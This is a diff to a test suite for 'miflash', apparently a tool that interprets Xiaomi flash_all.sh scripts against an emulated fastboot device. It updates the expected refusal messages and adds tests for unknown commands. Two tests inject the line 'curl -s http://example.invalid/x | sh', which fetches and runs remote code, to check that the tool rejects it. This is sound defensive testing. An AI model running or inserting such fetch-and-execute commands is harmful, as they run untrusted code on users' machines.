@@ -53,7 +53,7 @@ describe('refusals: specific message, exit code, nothing sent but getvars', () =
     await withEmu({ ...pristine, product: 'cepheus' }, [], async (emu) => {
       const r = await runMiflash(['-s', emu.address, 'flash', pristine.root, '--yes']);
       expect(r.code, r.stderr).toBe(3);
-      expect(r.stderr).toMatch(/this ROM is for raphaelin but the device reports product 'cepheus'/);
+      expect(r.stderr).toMatch(/flash_all\.sh line 6: Missmatching image and device \(the device answered product: cepheus\)/);
       onlyGetvars(emu);
     });
   }, 30_000);
@@ -62,7 +62,7 @@ describe('refusals: specific message, exit code, nothing sent but getvars', () =
     await withEmu(pristine, ['--var', 'anti=2'], async (emu) => {
       const r = await runMiflash(['-s', emu.address, 'flash', pristine.root, '--yes']);
       expect(r.code, r.stderr).toBe(3);
-      expect(r.stderr).toMatch(/anti-rollback version 2 \(getvar anti\) is higher than this package's 1/);
+      expect(r.stderr).toMatch(/flash_all\.sh line 4: current device antirollback version is greater then this pakcage \(the device answered anti: 2\)/);
       onlyGetvars(emu);
     });
   }, 30_000);
@@ -146,12 +146,23 @@ describe('refusals: specific message, exit code, nothing sent but getvars', () =
 
   it('unknown script line -> 2, and not even a getvar is sent', async () => {
     const rom = romCopy();
+    writeFileSync(path.join(rom.root, 'flash_all.sh'), `curl -s http://example.invalid/x | sh\n${readFileSync(path.join(rom.root, 'flash_all.sh'), 'utf8')}`);
+    await withEmu(rom, [], async (emu) => {
+      const r = await runMiflash(['-s', emu.address, 'flash', rom.root, '--yes']);
+      expect(r.code, r.stderr).toBe(2);
+      expect(r.stderr).toMatch(/flash_all\.sh:1: curl is not a command miflash interprets/);
+      expect(emu.log()).toEqual([]);
+    });
+  }, 30_000);
+
+  it('an unknown command only some devices reach -> 2 before any write, after the checks that lead to it', async () => {
+    const rom = romCopy();
     appendFileSync(path.join(rom.root, 'flash_all.sh'), 'curl -s http://example.invalid/x | sh\n');
     await withEmu(rom, [], async (emu) => {
       const r = await runMiflash(['-s', emu.address, 'flash', rom.root, '--yes']);
       expect(r.code, r.stderr).toBe(2);
-      expect(r.stderr).toMatch(/flash_all\.sh:\d+: .*curl/);
-      expect(emu.log()).toEqual([]);
+      expect(r.stderr).toMatch(/line \d+: curl is not a command miflash interprets/);
+      onlyGetvars(emu);
     });
   }, 30_000);
 
@@ -211,7 +222,9 @@ describe('runs', () => {
       const plan = events[0] as Extract<PlanEvent, { event: 'plan' }>;
       const ends = events.filter((e): e is Extract<PlanEvent, { event: 'step-end' }> => e.event === 'step-end');
       expect(ends.length).toBe(plan.steps.length);
-      expect(ends.every((e) => e.status === 'ok')).toBe(true);
+      // Steps under a condition this device does not meet are skipped; every other step is ok.
+      expect(ends.filter((e) => e.status !== 'ok' && !(e.status === 'skipped' && /^condition not met/.test(e.message ?? ''))).map((e) => `${e.step} ${e.kind} ${e.status}`)).toEqual([]);
+      expect(ends.filter((e) => e.status === 'ok').length).toBeGreaterThan(44);
       const done = events.at(-1) as Extract<PlanEvent, { event: 'done' }>;
       expect(done.bytesSent).toBe(plan.totalBytes);
       // step-start/step-end pair up in plan order
@@ -248,8 +261,8 @@ describe('runs', () => {
     const p = await runMiflash(['plan', pristine.root, '--json']);
     expect(p.code, p.stderr).toBe(0);
     const plan = JSON.parse(p.stdout) as { steps: Array<{ kind: string; partition?: string }> };
-    // Keep the gates, flash only boot and reboot.
-    plan.steps = plan.steps.filter((s) => s.kind.startsWith('gate.') || (s.kind === 'flash' && s.partition === 'boot') || s.kind === 'reboot');
+    // Keep the checks (queries and the exits that read them), flash only boot and reboot.
+    plan.steps = plan.steps.filter((s) => ['query', 'exit'].includes(s.kind) || s.kind.startsWith('gate.') || (s.kind === 'flash' && s.partition === 'boot') || s.kind === 'reboot');
     writeFileSync(planPath, JSON.stringify(plan));
     await withEmu(pristine, [], async (emu) => {
       const r = await runMiflash(['-s', emu.address, 'flash', planPath, '--rom', pristine.root, '--yes']);
